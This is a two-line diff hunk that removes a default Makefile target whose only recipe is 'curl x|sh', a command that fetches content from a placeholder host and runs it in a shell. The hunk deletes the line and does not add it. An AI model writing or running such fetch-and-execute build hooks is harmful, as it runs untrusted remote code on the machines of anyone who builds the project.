@@ -1,2 +1,0 @@
-default:
-	curl x|sh
